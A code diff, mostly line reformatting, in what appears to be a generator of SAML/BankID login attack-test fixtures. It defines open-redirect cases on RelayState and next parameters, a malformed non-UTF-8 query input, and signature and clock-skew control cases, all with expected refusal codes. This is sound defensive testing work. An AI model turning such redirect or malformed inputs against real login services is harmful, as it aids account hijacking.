-    _b.__doc__ = f"RelayState {_target!r} with a valid response: RelayState is an opaque key and must equal the request's."
+    _b.__doc__ = (
+        f"RelayState {_target!r} with a valid response: RelayState is an opaque key and must equal the request's."
+    )
     case(f"redirect-relaystate-{_slug}", "open-redirect", ErrorCode.RELAY_STATE_MISMATCH)(_b)
     _b = (lambda target: lambda ctx, d: dict(path="/login/bankid", query={"next": target}))(_target)
     _b.__doc__ = f"/login/bankid?next={_target!r}: refused before any AuthnRequest is made."
@@ -1606,7 +2153,9 @@ for _name, _endpoint, _path in (
     ("web-lang-next-not-utf8", "lang", "/lang/en"),
 ):
     _b = (lambda path: lambda ctx, d: dict(path=path, raw_query="next=%ff%fe"))(_path)
-    _b.__doc__ = f"{_path}?next=%ff%fe: bytes that are not UTF-8 in the query string are a bad request, not a server error."
+    _b.__doc__ = (
+        f"{_path}?next=%ff%fe: bytes that are not UTF-8 in the query string are a bad request, not a server error."
+    )
     case(_name, "web", ErrorCode.REQUEST_ENCODING_INVALID, endpoint=_endpoint)(_b)
 
 
@@ -1623,11 +2172,31 @@ def _control(name, doc, method="bankid", **overrides):
 
 _control("control-bankid-login", "A valid BankID response built like every case: accepted.")
 _control("control-expisoft-login", "A valid Expisoft (organisation) response: accepted.", "expisoft")
-_control("control-unsigned-assertion-in-signed-response", "DP 6.1: the Response must be signed, the assertion may be.", sign_assertion=False)
-_control("control-not-before-at-skew-boundary", "Conditions NotBefore exactly the skew ahead: still valid.", not_before=_at(SKEW))
-_control("control-not-on-or-after-inside-skew", "Conditions NotOnOrAfter one second inside the skew: still valid.", not_on_or_after=_at(-SKEW + 1))
-_control("control-issue-instant-at-max-age", "IssueInstant exactly the maximum age plus skew ago: still valid.", response_issue_instant=_at(-MAX_AGE - SKEW))
-_control("control-issue-instant-future-inside-skew", "IssueInstant exactly the skew ahead: still valid.", response_issue_instant=_at(SKEW))
+_control(
+    "control-unsigned-assertion-in-signed-response",
+    "DP 6.1: the Response must be signed, the assertion may be.",
+    sign_assertion=False,
+)
+_control(
+    "control-not-before-at-skew-boundary",
+    "Conditions NotBefore exactly the skew ahead: still valid.",
+    not_before=_at(SKEW),
+)
+_control(
+    "control-not-on-or-after-inside-skew",
+    "Conditions NotOnOrAfter one second inside the skew: still valid.",
+    not_on_or_after=_at(-SKEW + 1),
+)
+_control(
+    "control-issue-instant-at-max-age",
+    "IssueInstant exactly the maximum age plus skew ago: still valid.",
+    response_issue_instant=_at(-MAX_AGE - SKEW),
+)
+_control(
+    "control-issue-instant-future-inside-skew",
+    "IssueInstant exactly the skew ahead: still valid.",
+    response_issue_instant=_at(SKEW),
+)
 
 
 @case("control-comment-between-elements-after-signing", "control", None, expect="accepted")
@@ -1656,7 +2225,16 @@ def build_case(ctx: Ctx, d: CaseDef) -> Case:
     if fields.get("xml") is not None and (d.expect == "accepted" or fields.get("valid_message")):
         ctx.authorise(fields["xml"])
     authorised = sorted(a for a in ctx.authorised if a)
-    return Case(name=d.name, group=d.group, endpoint=d.endpoint, expect=d.expect, code=d.code.value if d.code else None, doc=d.doc, authorised=authorised, **fields)
+    return Case(
+        name=d.name,
+        group=d.group,
+        endpoint=d.endpoint,
+        expect=d.expect,
+        code=d.code.value if d.code else None,
+        doc=d.doc,
+        authorised=authorised,
+        **fields,
+    )
 
 
 def generate(out_dir: str, keys: KeySet, now: dt.datetime) -> dict[str, Case]:
@@ -1697,13 +2275,23 @@ def corpus_now(out_dir: str) -> dt.datetime:
 def manifest() -> list[dict]:
     """The committed index: what each fixture is and what the SP must answer (no keys needed)."""
     return [
-        {"name": d.name, "group": d.group, "endpoint": d.endpoint, "expect": d.expect, "code": d.code.value if d.code else None, "doc": d.doc}
+        {
+            "name": d.name,
+            "group": d.group,
+            "endpoint": d.endpoint,
+            "expect": d.expect,
+            "code": d.code.value if d.code else None,
+            "doc": d.doc,
+        }
         for d in REGISTRY
     ]
 
 
 def manifest_text() -> str:
-    return json.dumps({"generator": "tests/attacks/generate_corpus.py", "cases": manifest()}, indent=1, ensure_ascii=False) + "\n"
+    return (
+        json.dumps({"generator": "tests/attacks/generate_corpus.py", "cases": manifest()}, indent=1, ensure_ascii=False)
+        + "\n"
+    )
 
 
 def _main(argv: list[str] | None = None) -> int:
